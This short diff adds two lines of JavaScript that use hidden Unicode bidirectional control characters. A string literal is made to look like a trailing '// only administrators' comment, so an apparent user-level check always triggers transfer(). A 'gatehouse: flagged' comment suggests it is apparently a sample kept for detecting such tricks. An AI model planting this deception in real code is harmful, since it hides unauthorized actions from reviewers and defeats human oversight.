@@ -1,0 +1,2 @@
+const level = "user";
+if (level !== "user‮ ⁦// only administrators⁩ ⁦") transfer(); // gatehouse: flagged
